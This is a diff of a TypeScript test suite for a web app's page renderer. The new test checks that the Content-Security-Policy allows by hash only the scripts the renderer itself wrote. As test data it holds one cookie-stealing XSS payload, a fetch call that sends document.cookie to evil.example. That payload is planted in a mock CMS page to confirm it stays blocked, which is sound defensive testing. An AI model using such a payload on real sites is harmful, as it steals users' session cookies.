@@ -104,8 +104,13 @@ describe(`the app's pages and the paths no page has (${testDatabaseKind})`, () =
   });
 });
 
-const ROUTER_STATE_SCRIPT = '<script>window.$_TSR={"state":1}</script>';
+/** What the renderer marks its own scripts with; taken off before the page is sent. */
+const MARKER = 'marker-of-the-renderers-scripts';
+const ROUTER_STATE_SCRIPT = `<script nonce="${MARKER}">window.$_TSR={"state":1}</script>`;
+const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
+const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
 const RENDERED_BODY = `<main><h1>Promos</h1></main>${ROUTER_STATE_SCRIPT}`;
+const SENT_BODY = '<main><h1>Promos</h1></main><script>window.$_TSR={"state":1}</script>';
 const MEMBER_SESSION = {
   member: { firstName: 'Maria Clara', lastName: 'Santos', points: 1200, deletionDueAt: null },
   expiresInSeconds: 3500,
@@ -122,6 +127,16 @@ const rendering = useTestApp(async () => {
     // Renders /promos; any other page is a bug in the renderer.
     pageRenderer: ({ href, signedIn }) => {
       renders.push(`${href} ${signedIn ? 'member' : 'visitor'}`);
+      // A page whose CMS text carried a script past every other defence: it must not run.
+      if (href === '/stories')
+        return Promise.resolve({
+          kind: 'page',
+          status: 200,
+          head: '<title>Stories</title>',
+          body: `<main><h1>Stories</h1><script>${INJECTED}</script></main>${ROUTER_STATE_SCRIPT}`,
+          session: null,
+          scriptMarker: MARKER,
+        });
       // A page whose loader failed (the database was down): the renderer says so with a 5xx.
       if (href === '/partners')
         return Promise.resolve({
@@ -130,6 +145,7 @@ const rendering = useTestApp(async () => {
           head: '<title>Error</title>',
           body: `<main><p>We're having trouble right now. Please try again in a few minutes.</p></main>`,
           session: null,
+          scriptMarker: MARKER,
         });
       return href === '/promos'
         ? Promise.resolve({
@@ -138,6 +154,7 @@ const rendering = useTestApp(async () => {
             head: '<title>Promos</title>',
             body: RENDERED_BODY,
             session: signedIn ? MEMBER_SESSION : null,
+            scriptMarker: MARKER,
           })
         : Promise.reject(new Error(`no render for ${href}`));
     },
@@ -156,9 +173,7 @@ describe(`a page from the renderer (${testDatabaseKind})`, () => {
   it('comes rendered into the shell for a visitor, its inline script allowed by its hash', async () => {
     const response = await rendering.app.inject({ url: '/promos' });
     expect(response.statusCode).toBe(200);
-    expect(response.body).toContain(
-      `<div id="root" data-rendered="visitor">${RENDERED_BODY}</div>`,
-    );
+    expect(response.body).toContain(`<div id="root" data-rendered="visitor">${SENT_BODY}</div>`);
     const hash = createHash('sha256').update('window.$_TSR={"state":1}').digest('base64');
     const scriptSrc = /(?:^|;)\s*script-src ([^;]*)/.exec(
       String(response.headers['content-security-policy']),
@@ -181,7 +196,7 @@ describe(`a page from the renderer (${testDatabaseKind})`, () => {
       ...asMember,
     });
     expect(gzip.headers['content-encoding']).toBe('gzip');
-    expect(gunzipSync(gzip.rawPayload).toString()).toContain(RENDERED_BODY);
+    expect(gunzipSync(gzip.rawPayload).toString()).toContain(SENT_BODY);
     expect(String(br.headers.vary)).toMatch(/accept-encoding/i);
   });
 
@@ -222,6 +237,14 @@ describe(`a page from the renderer (${testDatabaseKind})`, () => {
     const visitor = await rendering.app.inject({ url: '/promos' });
     expect(visitor.body).toContain('data-rendered="visitor"');
     expect(renders).toHaveLength(3);
+  });
+
+  it("allows by hash only the scripts the renderer wrote, never one that came in the page's content", async () => {
+    const response = await rendering.app.inject({ url: '/stories' });
+    expect(response.statusCode).toBe(200);
+    const policy = String(response.headers['content-security-policy']);
+    expect(policy).toContain(sha256('window.$_TSR={"state":1}'));
+    expect(policy).not.toContain(sha256(INJECTED));
   });
 
   it('is never kept when a loader failed: answered 5xx, no-store, rendered again next time', async () => {
